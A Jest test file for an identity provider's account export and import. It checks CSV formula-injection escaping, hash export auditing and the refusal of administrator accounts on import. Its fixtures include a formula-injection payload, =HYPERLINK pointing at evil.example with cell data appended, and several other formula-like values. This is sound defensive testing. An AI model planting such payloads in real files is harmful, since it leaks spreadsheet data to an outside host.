/** What leaves goes in again, elsewhere; and no cell of it is a formula. */
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { findAttributes } from '../../src/users/attributes.ts';
import { defineCustomClaim } from '../../src/oidc/claims/custom-claims.ts';
import { at, typePassword } from '../rig/ceremony.ts';
import { type Hemma, PASSWORD, startHemma } from '../rig/hemma.ts';
import { startRelyingParty } from '../rig/relying-party.ts';
import { newVisitor } from '../rig/visitor.ts';
import { type Importer, importerWith, stored, told } from './files.ts';

let here: Hemma;
let there: Hemma;
let from: Importer;
let to: Importer;

const bcrypt = '$2b$10$abcdefghijklmnopqrstuuwPNdRqY8e6.2MWaEx4H26.2qi1bo4f6';
const formula = '=HYPERLINK("https://evil.example/?"&A1)';
const people = [
  { email: 'a1@example.com', name: 'Åsa "Ek", d.y.; x', locale: 'sv', groups: ['Nord AB', 'A|B', '[C]'] },
  { email: 'a2@example.com', name: formula, password_hash: bcrypt, email_verified: true },
  {
    email: '=a3@example.com',
    name: "'=1+1",
    two_step_required: false,
    disabled: true,
    password_hash: bcrypt,
  },
  { email: '+a4@example.com', name: "''-2", locale: 'en', groups: ['=cmd'] },
  { email: "'a5@example.com", name: '@SUM(A1)' },
  { email: 'a6@example.com', name: '＝１＋１', attributes: { unit: '=1+1;"x', roles: ['a', 'b|c'] } },
];

beforeAll(async () => {
  [here, there] = await Promise.all([startHemma(), startHemma()]);
  [from, to] = await Promise.all([importerWith(here.env), importerWith(there.env)]);
  await here.account({ email: 'admin@example.com', role: 'administrator' });
  await here.account({ email: 'own@example.com' });
  for (const { db } of [here, there])
    for (const [name, multi] of [
      ['unit', false],
      ['roles', true],
    ] as const)
      await defineCustomClaim(db, { name, scope: 'staff', label: { sv: name, en: name }, multi }, {});
  const end = await from.take(people.map((one) => `${JSON.stringify(one)}\n`).join(''), '--create-groups');
  if (end.code !== 0) throw new Error(end.stderr);
});
afterAll(async () => {
  await Promise.all([from.stop(), to.stop()]);
  await Promise.all([here.stop(), there.stop()]);
});

const everyone = [...people.map(({ email }) => email), 'own@example.com'];
const facts = async ({ db }: Hemma, email: string) => {
  const found = await stored(db, email);
  const { id, password_hash: hash, open: _open, ...rest } = found ?? {};
  const { rows } = await db.query<{ name: string }>(
    'SELECT name FROM groups JOIN group_members ON groups.id = group_id WHERE account_id = $1 ORDER BY name',
    [id],
  );
  const attributes = await findAttributes(db, id ?? '');
  // Whose invitation waits has a hash of nobody's password, each house its own.
  return {
    ...rest,
    hash: found?.invited ? 'nobody knows' : hash,
    groups: rows.map(({ name }) => name),
    attributes,
  };
};

/** Every cell of a file, quotes and all. */
const cells = (text: string) => text.slice(1).match(/"(?:[^"]|"")*"/g) ?? [];

test('T31 a cell that leaves never begins like a formula', async () => {
  const { stdout } = await from.shell(['accounts', 'export', '--with-hashes']);
  expect(cells(stdout).length).toBeGreaterThan(9 * everyone.length);
  for (const cell of cells(stdout)) expect(cell).not.toMatch(/^"[=+\-@\t\r＝＋－＠]/);
  expect(stdout).toContain(`"'${formula.replaceAll('"', '""')}"`);
});

test('hashes leave only where that is asked for, and each time it is in the audit before they do', async () => {
  const plain = await Promise.all([
    from.shell(['accounts', 'export']),
    from.shell(['accounts', 'export', '--format', 'json']),
    from.shell(['accounts', 'export', '--json']),
  ]);
  for (const { code, stdout } of plain) {
    expect(code).toBe(0);
    expect(stdout).toContain('a1@example.com');
    expect(stdout).not.toMatch(/\$2b|argon2|password_hash/);
  }
  expect((await from.shell(['accounts', 'export', '--with-hashes'])).stdout).toContain(bcrypt);
  const { rows } = await here.db.query<{ detail: object }>(
    "SELECT detail FROM audit WHERE event = 'accounts.exported' ORDER BY id DESC LIMIT 1",
  );
  expect(rows[0]?.detail).toEqual({ format: 'csv', withHashes: true, accounts: people.length + 2 });
});

test.each(['csv', 'json'])(
  '%s: an empty house takes in what leaves, everybody as they were, but no administrators',
  async (format) => {
    const { stdout } = await from.shell(['accounts', 'export', '--format', format, '--with-hashes']);
    const end = await to.take(stdout, '--create-groups');
    expect(end.summary.refusals.filter(({ code }) => code !== 'email-taken')).toEqual([
      { row: expect.any(Number), code: 'privileged-account', field: 'role' },
    ]);
    expect(end.summary.created + end.summary.existing).toBe(everyone.length);
    for (const email of everyone)
      expect([email, await facts(there, email)]).toEqual([email, await facts(here, email)]);
    expect(await stored(there.db, 'admin@example.com')).toBeUndefined();
    await there.db.query("DELETE FROM accounts WHERE email <> 'own@example.com'");
    if (format === 'csv') await there.db.query('DELETE FROM accounts');
  },
);

test('somebody who moved signs in with the password of before', async () => {
  const autopay = await startRelyingParty({ hemma: there });
  const visitor = newVisitor();
  await visitor.visit((await autopay.begin()).url);
  at('mailed-code', await typePassword(visitor, 'own@example.com', PASSWORD));
  await autopay.stop();
});

test('an empty house exports a file that an import takes', async () => {
  const empty = await startHemma();
  const importer = await importerWith(empty.env);
  const [csv, json] = await Promise.all([
    importer.shell(['accounts', 'export']),
    importer.shell(['accounts', 'export', '--json']),
  ]);
  expect(JSON.parse(json.stdout)).toEqual([]);
  for (const { stdout } of [csv, json]) {
    const end = await importer.take(stdout);
    expect([end.code, told(end), end.summary.rows]).toEqual([0, [], 0]);
  }
  await importer.stop();
  await empty.stop();
});
